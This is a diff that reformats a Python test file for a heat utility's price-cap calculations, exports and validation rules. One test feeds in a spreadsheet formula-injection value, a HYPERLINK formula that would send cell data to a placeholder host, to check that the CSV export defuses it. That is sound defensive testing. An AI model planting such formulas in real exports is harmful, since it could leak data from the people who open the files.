@@ -27,34 +27,88 @@ DAY = (dt.date(2026, 1, 5), dt.date(2026, 1, 6))
 @pytest.fixture
 def network():
     net = NetworkFactory(code="caps", price_area="DK2", currency="DKK")
-    hours = pd.date_range("2026-01-05", "2026-01-06", freq="h", inclusive="left", tz="Europe/Copenhagen").tz_convert("UTC")
+    hours = pd.date_range(
+        "2026-01-05", "2026-01-06", freq="h", inclusive="left", tz="Europe/Copenhagen"
+    ).tz_convert("UTC")
     SpotPrice.objects.bulk_create(
-        SpotPrice(price_area="DK2", hour_start=t.to_pydatetime(), price_per_mwh=D(-20 if i == 3 else 100))
-        for i, t in enumerate(hours))
+        SpotPrice(
+            price_area="DK2", hour_start=t.to_pydatetime(), price_per_mwh=D(-20 if i == 3 else 100)
+        )
+        for i, t in enumerate(hours)
+    )
     for kind, amount in (("grid", "50"), ("system", "10"), ("tax", "5")):
-        ElectricityCharge.objects.create(price_area="DK2", kind=kind, valid_from=dt.date(2026, 1, 1), amount_per_mwh=D(amount))
+        ElectricityCharge.objects.create(
+            price_area="DK2", kind=kind, valid_from=dt.date(2026, 1, 1), amount_per_mwh=D(amount)
+        )
     return net
 
 
 INPUTS = {
     PriceCap.Method.COST_BASED: {
-        "variable_costs": "6000000", "fixed_costs": "4000000", "over_recovery": "500000", "approved_return": "0",
-        "forecast_sales_mwh": "50000", "connections": 1000, "contracted_kw_total": "12000"},
-    PriceCap.Method.INDEXATION: {"clauses": [
-        {"price": "energy", "base_price": "80", "a": "0.2",
-         "cost_terms": [{"name": "electricity", "weight": "0.5", "base": "100", "current": "120"}],
-         "market_term": {"name": "destatis", "weight": "0.3", "base": "100", "current": "110"}},
-        {"price": "capacity", "base_price": "30", "a": "0.4",
-         "cost_terms": [{"name": "wages", "weight": "0.4", "base": "100", "current": "105"}],
-         "market_term": {"name": "destatis", "weight": "0.2", "base": "100", "current": "110"}},
-        {"price": "meter", "base_price": "60", "a": "0.5",
-         "cost_terms": [{"name": "investment_goods", "weight": "0.3", "base": "100", "current": "103"}],
-         "market_term": {"name": "destatis", "weight": "0.2", "base": "100", "current": "110"}}]},
-    PriceCap.Method.MAXIMUM_PRICE: {"fixed_per_year_incl_vat": "512.37", "price_per_gj_incl_vat": "47.38"},
+        "variable_costs": "6000000",
+        "fixed_costs": "4000000",
+        "over_recovery": "500000",
+        "approved_return": "0",
+        "forecast_sales_mwh": "50000",
+        "connections": 1000,
+        "contracted_kw_total": "12000",
+    },
+    PriceCap.Method.INDEXATION: {
+        "clauses": [
+            {
+                "price": "energy",
+                "base_price": "80",
+                "a": "0.2",
+                "cost_terms": [
+                    {"name": "electricity", "weight": "0.5", "base": "100", "current": "120"}
+                ],
+                "market_term": {
+                    "name": "destatis",
+                    "weight": "0.3",
+                    "base": "100",
+                    "current": "110",
+                },
+            },
+            {
+                "price": "capacity",
+                "base_price": "30",
+                "a": "0.4",
+                "cost_terms": [{"name": "wages", "weight": "0.4", "base": "100", "current": "105"}],
+                "market_term": {
+                    "name": "destatis",
+                    "weight": "0.2",
+                    "base": "100",
+                    "current": "110",
+                },
+            },
+            {
+                "price": "meter",
+                "base_price": "60",
+                "a": "0.5",
+                "cost_terms": [
+                    {"name": "investment_goods", "weight": "0.3", "base": "100", "current": "103"}
+                ],
+                "market_term": {
+                    "name": "destatis",
+                    "weight": "0.2",
+                    "base": "100",
+                    "current": "110",
+                },
+            },
+        ]
+    },
+    PriceCap.Method.MAXIMUM_PRICE: {
+        "fixed_per_year_incl_vat": "512.37",
+        "price_per_gj_incl_vat": "47.38",
+    },
     PriceCap.Method.SUBSTITUTION: {
         "reference": {"energy_mwh": "2.4", "heated_area_m2": "130", "contracted_kw": "9"},
-        "individual_scop": "3.0", "consumer_extra_per_mwh": "0", "investment": "0", "om_per_year": "0",
-        "include_utility_tariffs": True},
+        "individual_scop": "3.0",
+        "consumer_extra_per_mwh": "0",
+        "investment": "0",
+        "om_per_year": "0",
+        "include_utility_tariffs": True,
+    },
 }
 # worked out by hand:
 #  cost-based: (6.0 M − 0.3 M) / 50,000 = 114.00/MWh; 3.8 M × 0.2 / 1,000 = 760.00; 3.8 M × 0.8 / 12,000 = 253.33/kW
@@ -64,8 +118,16 @@ INPUTS = {
 #  substitution: 2.4 MWh flat over 24 h at SCOP 3 = 1/30 MWh electricity per hour;
 #              (23 × (100 + 65) + (−20 + 65)) / 30 = 3,840 / 30 = 128.00
 EXPECTED = {
-    PriceCap.Method.COST_BASED: {"energy_cap_per_mwh": "114.00", "fixed_cap_per_year": "760.00", "capacity_cap_per_kw": "253.33"},
-    PriceCap.Method.INDEXATION: {"energy_cap_per_mwh": "90.40", "capacity_cap_per_kw": "31.20", "fixed_cap_per_year": "61.74"},
+    PriceCap.Method.COST_BASED: {
+        "energy_cap_per_mwh": "114.00",
+        "fixed_cap_per_year": "760.00",
+        "capacity_cap_per_kw": "253.33",
+    },
+    PriceCap.Method.INDEXATION: {
+        "energy_cap_per_mwh": "90.40",
+        "capacity_cap_per_kw": "31.20",
+        "fixed_cap_per_year": "61.74",
+    },
     PriceCap.Method.MAXIMUM_PRICE: {"energy_cap_per_mwh": "170.57", "fixed_cap_per_year": "512.37"},
     PriceCap.Method.SUBSTITUTION: {"reference_total_cap": "128.00"},
 }
@@ -73,30 +135,60 @@ EXPECTED = {
 
 @pytest.mark.parametrize("method", list(INPUTS))
 def test_each_method_is_stored_exported_and_recomputed_to_the_cent(network, method):
-    cap = price_cap_compute(network=network, method=method, period_start=DAY[0], period_end=DAY[1],
-                            inputs=INPUTS[method], now=NOW)
-    limits = {k: v for k, v in json.loads(price_cap_export(cap=cap, fmt="json"))["limits"].items() if v is not None}
+    cap = price_cap_compute(
+        network=network,
+        method=method,
+        period_start=DAY[0],
+        period_end=DAY[1],
+        inputs=INPUTS[method],
+        now=NOW,
+    )
+    limits = {
+        k: v
+        for k, v in json.loads(price_cap_export(cap=cap, fmt="json"))["limits"].items()
+        if v is not None
+    }
     assert limits == EXPECTED[method]
     assert price_cap_recompute(cap=cap) == {}
     # a regulator redoes it from the exported inputs alone
     exported = json.loads(price_cap_export(cap=cap, fmt="json"))
-    again = compute_cap_result(method=exported["method"], currency=exported["currency"], inputs=exported["inputs"],
-                               network=network, period_start=DAY[0], period_end=DAY[1])
+    again = compute_cap_result(
+        method=exported["method"],
+        currency=exported["currency"],
+        inputs=exported["inputs"],
+        network=network,
+        period_start=DAY[0],
+        period_end=DAY[1],
+    )
     assert again.figures == exported["figures"]
-    assert {k: format(v, "f") for k, v in {
-        "energy_cap_per_mwh": again.limits.energy_per_mwh, "fixed_cap_per_year": again.limits.fixed_per_year,
-        "capacity_cap_per_kw": again.limits.capacity_per_kw, "reference_total_cap": again.limits.reference_total,
-    }.items() if v is not None} == EXPECTED[method]
+    assert {
+        k: format(v, "f")
+        for k, v in {
+            "energy_cap_per_mwh": again.limits.energy_per_mwh,
+            "fixed_cap_per_year": again.limits.fixed_per_year,
+            "capacity_cap_per_kw": again.limits.capacity_per_kw,
+            "reference_total_cap": again.limits.reference_total,
+        }.items()
+        if v is not None
+    } == EXPECTED[method]
     rows = list(csv.reader(io.StringIO(price_cap_export(cap=cap, fmt="csv"))))
     assert rows[0] == ["section", "name", "value"]
-    assert {(r[1], r[2]) for r in rows if r[0] == "limits" and r[2]} == set(EXPECTED[method].items())
+    assert {(r[1], r[2]) for r in rows if r[0] == "limits" and r[2]} == set(
+        EXPECTED[method].items()
+    )
     assert sum(1 for r in rows if r[0] == "figures") == len(cap.results) > 0
 
 
 def test_substitution_without_the_utility_tariffs_uses_spot_only(network):
     inputs = {**INPUTS[PriceCap.Method.SUBSTITUTION], "include_utility_tariffs": False}
-    cap = price_cap_compute(network=network, method=PriceCap.Method.SUBSTITUTION, period_start=DAY[0], period_end=DAY[1],
-                            inputs=inputs, now=NOW)
+    cap = price_cap_compute(
+        network=network,
+        method=PriceCap.Method.SUBSTITUTION,
+        period_start=DAY[0],
+        period_end=DAY[1],
+        inputs=inputs,
+        now=NOW,
+    )
     assert cap.reference_total_cap == D("76.00")  # (23 × 100 − 20) / 30
     assert D(cap.results["seasonal_cop"]) == 3
 
@@ -104,12 +196,34 @@ def test_substitution_without_the_utility_tariffs_uses_spot_only(network):
 def test_rebasing_an_index_in_a_stored_cap_is_price_neutral(network):
     # the electricity series was rebased: 125 on the old base = 100 on the new one; K = 120 old = 96 new
     plain = INPUTS[PriceCap.Method.INDEXATION]["clauses"][0]
-    rebased = {**plain, "cost_terms": [{"name": "electricity", "weight": "0.5", "base": "100", "current": "96",
-                                        "rebase": {"old_at_link": "125", "new_at_link": "100"}}]}
-    a = price_cap_compute(network=network, method=PriceCap.Method.INDEXATION, period_start=DAY[0], period_end=DAY[1],
-                          inputs={"clauses": [plain]}, now=NOW)
-    b = price_cap_compute(network=network, method=PriceCap.Method.INDEXATION, period_start=DAY[0], period_end=DAY[1],
-                          inputs={"clauses": [rebased]}, now=NOW)
+    rebased = {
+        **plain,
+        "cost_terms": [
+            {
+                "name": "electricity",
+                "weight": "0.5",
+                "base": "100",
+                "current": "96",
+                "rebase": {"old_at_link": "125", "new_at_link": "100"},
+            }
+        ],
+    }
+    a = price_cap_compute(
+        network=network,
+        method=PriceCap.Method.INDEXATION,
+        period_start=DAY[0],
+        period_end=DAY[1],
+        inputs={"clauses": [plain]},
+        now=NOW,
+    )
+    b = price_cap_compute(
+        network=network,
+        method=PriceCap.Method.INDEXATION,
+        period_start=DAY[0],
+        period_end=DAY[1],
+        inputs={"clauses": [rebased]},
+        now=NOW,
+    )
     assert a.energy_cap_per_mwh == b.energy_cap_per_mwh == D("90.40")
     assert b.results["energy.electricity.base_before_rebase"] == "100"
     assert b.results["energy.electricity.base_rebased"] == "80"
@@ -123,13 +237,25 @@ def test_the_csv_export_is_one_cell_per_value_and_no_formula(network):
     in one moved the cells after it into new columns."""
     clause = INPUTS[PriceCap.Method.INDEXATION]["clauses"][0]
     formula = '=HYPERLINK("http://x.example/?"&A1,"go")'
-    inputs = {"clauses": [{
-        **clause,
-        "cost_terms": [{"name": "power, grid", "weight": "0.5", "base": "100", "current": "120"}],
-        "market_term": {**clause["market_term"], "name": formula},
-    }]}
-    cap = price_cap_compute(network=network, method=PriceCap.Method.INDEXATION, period_start=DAY[0],
-                            period_end=DAY[1], inputs=inputs, now=NOW)
+    inputs = {
+        "clauses": [
+            {
+                **clause,
+                "cost_terms": [
+                    {"name": "power, grid", "weight": "0.5", "base": "100", "current": "120"}
+                ],
+                "market_term": {**clause["market_term"], "name": formula},
+            }
+        ]
+    }
+    cap = price_cap_compute(
+        network=network,
+        method=PriceCap.Method.INDEXATION,
+        period_start=DAY[0],
+        period_end=DAY[1],
+        inputs=inputs,
+        now=NOW,
+    )
 
     rows = list(csv.reader(io.StringIO(price_cap_export(cap=cap, fmt="csv"))))
 
@@ -152,23 +278,54 @@ def test_an_index_from_another_networks_cost_run_is_refused(network):
 
     def run(net, cost, mwh):
         return OperatingCost.objects.create(
-            network=net, period_start=dt.date(2025, 1, 1), period_end=dt.date(2025, 2, 1), computed_at=NOW,
+            network=net,
+            period_start=dt.date(2025, 1, 1),
+            period_end=dt.date(2025, 2, 1),
+            computed_at=NOW,
             results={"figures": {"electricity_cost": cost, "electricity_mwh": mwh}},
-            cost_per_mwh_produced=D(0), cost_per_mwh_sold=D(0))
+            cost_per_mwh_produced=D(0),
+            cost_per_mwh_sold=D(0),
+        )
 
     other = NetworkFactory(code="eur", price_area="DE", currency="EUR")
     base, current = run(other, "1000.00", "10.000000"), run(network, "7460.00", "10.000000")
-    inputs = {"clauses": [{"price": "energy", "base_price": "80", "a": "0.2",
-                           "cost_terms": [{"name": "electricity", "weight": "0.5", "base_cost_id": base.pk,
-                                           "current_cost_id": current.pk}],
-                           "market_term": {"name": "destatis", "weight": "0.3", "base": "100", "current": "110"}}]}
+    inputs = {
+        "clauses": [
+            {
+                "price": "energy",
+                "base_price": "80",
+                "a": "0.2",
+                "cost_terms": [
+                    {
+                        "name": "electricity",
+                        "weight": "0.5",
+                        "base_cost_id": base.pk,
+                        "current_cost_id": current.pk,
+                    }
+                ],
+                "market_term": {
+                    "name": "destatis",
+                    "weight": "0.3",
+                    "base": "100",
+                    "current": "110",
+                },
+            }
+        ]
+    }
     from heatutility.errors import DomainError
 
     with pytest.raises(DomainError) as err:
-        price_cap_compute(network=network, method=PriceCap.Method.INDEXATION, period_start=DAY[0], period_end=DAY[1],
-                          inputs=inputs, now=NOW)
+        price_cap_compute(
+            network=network,
+            method=PriceCap.Method.INDEXATION,
+            period_start=DAY[0],
+            period_end=DAY[1],
+            inputs=inputs,
+            now=NOW,
+        )
     assert [(e.code, e.field) for e in err.value.errors] == [
-        ("wrong_network", "inputs.clauses.0.cost_terms.0.base_cost_id")]
+        ("wrong_network", "inputs.clauses.0.cost_terms.0.base_cost_id")
+    ]
     assert not PriceCap.objects.exists()
 
 
@@ -184,14 +341,38 @@ def test_a_reference_customer_entered_as_json_numbers_is_read_as_written(network
     )
     from tests.tariffs.factories import TariffFactory
 
-    inputs = {"reference": {"energy_mwh": 15.7, "heated_area_m2": 130, "contracted_kw": 9.05, "volume_m3": 300.3},
-              "individual_scop": "3.0", "include_utility_tariffs": True}
-    cap = price_cap_compute(network=network, method=PriceCap.Method.SUBSTITUTION, period_start=DAY[0], period_end=DAY[1],
-                            inputs=json.loads(json.dumps(inputs)), now=NOW)
+    inputs = {
+        "reference": {
+            "energy_mwh": 15.7,
+            "heated_area_m2": 130,
+            "contracted_kw": 9.05,
+            "volume_m3": 300.3,
+        },
+        "individual_scop": "3.0",
+        "include_utility_tariffs": True,
+    }
+    cap = price_cap_compute(
+        network=network,
+        method=PriceCap.Method.SUBSTITUTION,
+        period_start=DAY[0],
+        period_end=DAY[1],
+        inputs=json.loads(json.dumps(inputs)),
+        now=NOW,
+    )
     reference = cap_limits(cap).reference
-    assert (reference.energy_mwh, reference.contracted_kw, reference.volume_m3) == (D("15.7"), D("9.05"), D("300.3"))
+    assert (reference.energy_mwh, reference.contracted_kw, reference.volume_m3) == (
+        D("15.7"),
+        D("9.05"),
+        D("300.3"),
+    )
     price_cap_adopt(cap=cap, now=NOW)
-    version = tariff_version_create(tariff=TariffFactory(network=network), valid_from=DAY[0],
-                                    components=[{"type": "energy", "code": "energy", "unit": "MWh", "price": "1000"}])
+    version = tariff_version_create(
+        tariff=TariffFactory(network=network),
+        valid_from=DAY[0],
+        components=[{"type": "energy", "code": "energy", "unit": "MWh", "price": "1000"}],
+    )
     _, (message,) = tariff_version_cap_check(version=version)
-    assert "(reference customer 15.7 MWh, 300.3 m³, 9.05 kW, 130 m²) 15700.00 DKK/year exceeds" in message
+    assert (
+        "(reference customer 15.7 MWh, 300.3 m³, 9.05 kW, 130 m²) 15700.00 DKK/year exceeds"
+        in message
+    )
